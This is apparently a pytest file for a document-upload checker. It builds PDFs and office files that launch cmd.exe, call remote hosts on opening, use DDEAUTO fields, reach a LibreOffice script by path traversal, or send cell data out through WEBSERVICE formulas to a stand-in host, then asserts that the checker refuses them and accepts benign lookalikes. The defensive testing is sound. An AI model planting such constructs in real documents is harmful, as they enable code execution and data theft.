"""A paper that would do something once opened, however its order is written: elsewhere, in a field, in a formula."""

import pytest
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.core import made_files as made
from tests.core.made_files import ODS, W
from veille.core import uploads
from veille.core.uploads import refusal
from veille.core.uploads.refusal import Refused


def action(**keys) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in keys.items()})


def _link(writer, acting) -> None:
    note = action(Subtype=NameObject("/Link"), A=acting)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])


def launch_said_elsewhere(writer):
    _link(writer, action(S=writer._add_object(NameObject("/Launch")), F=TextStringObject("cmd.exe")))


def guest_said_elsewhere(writer):
    note = action(Subtype=writer._add_object(NameObject("/FileAttachment")))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])


def site_called_at_the_opening(writer):
    calling = action(S=NameObject("/URI"), URI=TextStringObject("https://x.invalid/vu"))
    writer.root_object[NameObject("/OpenAction")] = calling


def page_fetched_from_a_server(writer):
    stream = DecodedStreamObject()
    stream.set_data(b"")
    stream[NameObject("/F")] = TextStringObject("\\\\serveur.invalid\\part")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)


def picture_whose_size_is_said_elsewhere(writer):
    stream = DecodedStreamObject()
    stream.set_data(b"\0")
    stream[NameObject("/Subtype")] = writer._add_object(NameObject("/Image"))
    stream[NameObject("/Width")] = stream[NameObject("/Height")] = writer._add_object(NumberObject(90_000))
    writer.pages[0][NameObject("/Thumb")] = writer._add_object(stream)


PDFS = {
    launch_said_elsewhere: refusal.ACTS,
    guest_said_elsewhere: refusal.ACTS,
    site_called_at_the_opening: refusal.ACTS,
    page_fetched_from_a_server: refusal.EMBEDS,
    picture_whose_size_is_said_elsewhere: refusal.TOO_LARGE_IMAGE,
}


@pytest.mark.parametrize("prepare", PDFS, ids=lambda one: one.__name__)
def test_a_pdf_that_acts_is_refused(prepare):
    with pytest.raises(Refused) as told:
        uploads.check("b.pdf", made.pdf(prepare=prepare))
    assert told.value.messages == [PDFS[prepare]]


def site_to_click(writer):
    _link(writer, action(S=NameObject("/URI"), URI=TextStringObject("https://www.adil62.org/")))


def opened_at_its_first_page(writer):
    page = writer.pages[0].indirect_reference
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])


@pytest.mark.parametrize("prepare", [site_to_click, opened_at_its_first_page], ids=lambda one: one.__name__)
def test_a_pdf_that_waits_for_a_click_is_received(prepare):
    assert uploads.check("b.pdf", made.pdf(prepare=prepare)).content


def open_paper(body: str, mime: str = made.ODT) -> bytes:
    names = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("office", "draw", "text", "script", "table", "style"))
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    content = f'<?xml version="1.0"?><office:document-content {names} {xlink}>{body}</office:document-content>'
    return made.open_document(mime, extra={"content.xml": content})


def field(order: str) -> bytes:
    begins, text = '<w:fldChar w:fldCharType="begin"/>', f"<w:instrText> {order} </w:instrText>"
    return made.docx({"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{begins}{text}</w:ftr>'})


def under_another_name(part: str, encoding: str = "utf-8") -> bytes:
    """Word finds a part by what the archive says of it: its name may be anything."""
    text = f'<?xml version="1.0"?><w:ftr xmlns:w="{W}"><w:instrText>DDEAUTO cmd</w:instrText></w:ftr>'
    return made.docx({part: text.encode(encoding)})


def relations_in_capitals() -> bytes:
    parts = made.docx_parts(relations=made.relation("attachedTemplate", "https://x.invalid/m.dotm"))
    name = "word/_rels/document.xml.rels"
    return made.archive({key.upper() if key == name else key: content for key, content in parts.items()})


def formula(written: str) -> bytes:
    return made.xlsx(lambda book, sheet: sheet.write_formula(3, 3, written))


def cell(written: str) -> bytes:
    return open_paper(f'<table:table-cell table:formula="of:={written}"/>', ODS)


SCRIPT = "vnd.sun.star.script:../../../program/python/lib/pydoc.py$tempfilepager?language=Python&amp;location=share"
ACTING = {
    "une image suivie": ("a.odt", open_paper('<draw:image xlink:href="https://x.invalid/suivi.png"/>')),
    "une image d’un serveur": ("a.odt", open_paper('<draw:image xlink:href="file://serveur/part/x.png"/>')),
    "un fond suivi": ("a.odt", open_paper('<style:background-image xlink:href="//x.invalid/f.png"/>')),
    "un passage pris ailleurs": ("a.odt", open_paper('<text:section-source xlink:href="../../autre.odt"/>')),
    "un cadre": ("a.odt", open_paper('<draw:floating-frame xlink:href="https://x.invalid/"/>')),
    "un module": ("a.odt", open_paper('<draw:plugin xlink:href="https://x.invalid/"/>')),
    "un programme au survol": ("a.odt", open_paper(f'<script:event-listener xlink:href="{SCRIPT}"/>')),
    "une feuille prise ailleurs": ("a.ods", open_paper('<table:table-source xlink:href="https://x.invalid/"/>', ODS)),
    "une cellule qui appelle": ("a.ods", cell("WEBSERVICE(&quot;https://x.invalid/&quot;)")),
    "une cellule prise ailleurs": ("a.ods", cell("'file://serveur/a.ods'#$F.A1")),
    "une formule qui appelle": ("a.xlsx", formula('=_xlfn.WEBSERVICE("https://x.invalid/?"&A1)')),
    "une formule qui montre": ("a.xlsx", formula('=_xlfn.IMAGE("https://x.invalid/a.png")')),
    "un champ lié": ("a.docx", field('LINK Excel.Sheet.8 "\\\\x.invalid\\a.xls" "F" \\a')),
    "un champ sous un autre nom": ("a.docx", under_another_name("word/footer.dat")),
    "un champ sous un nom d’image": ("a.docx", under_another_name("word/media/image1.png", "utf-16")),
    "des relations en capitales": ("a.docx", relations_in_capitals()),
    "un champ de base": ("a.docx", field('DATABASE \\d "C:\\x" \\c "DSN=x"')),
}


@pytest.mark.parametrize("case", ACTING)
def test_a_text_or_a_workbook_that_calls_is_refused(case):
    name, content = ACTING[case]
    with pytest.raises(Refused) as told:
        uploads.check(name, content)
    assert told.value.messages[0] in {refusal.FETCHES, refusal.MACROS}


QUIET = {
    "une photo rangée dedans": ("a.odt", open_paper('<draw:image xlink:href="Pictures/1.png"/>')),
    "un objet rangé dedans": ("a.odt", open_paper('<draw:object xlink:href="./formule"/>')),
    "un lien à cliquer": ("a.odt", open_paper('<text:a xlink:href="https://www.adil62.org/">ADIL</text:a>')),
    "le modèle du courrier": ("a.odt", open_paper('<text:template xlink:href="file:///C:/modeles/courrier.ott"/>')),
    "un dessin et sa photo": (
        "a.docx",
        made.docx({"word/media/image1.svg": '<svg xmlns:x="u"><image x:href="data:image/png;base64,AA=="/></svg>'}),
    ),
    "une police brouillée": ("a.docx", made.docx({"word/fonts/font1.odttf": b"<a" + bytes(range(200))})),
    "un lien de Word": ("a.docx", field('HYPERLINK "https://www.adil62.org/import-link/"')),
    "une feuille nommée Import": ("a.ods", cell("[$IMPORT.A1]+[$LINK.B2]")),
    "une feuille de la DDE": ("a.xlsx", formula("=DDE!A1+Link!B2")),
    "une somme": ("a.xlsx", formula("=SUM(Import!A1:A9)")),
}


@pytest.mark.parametrize("case", QUIET)
def test_one_that_waits_is_received(case):
    name, content = QUIET[case]
    assert uploads.check(name, content).content
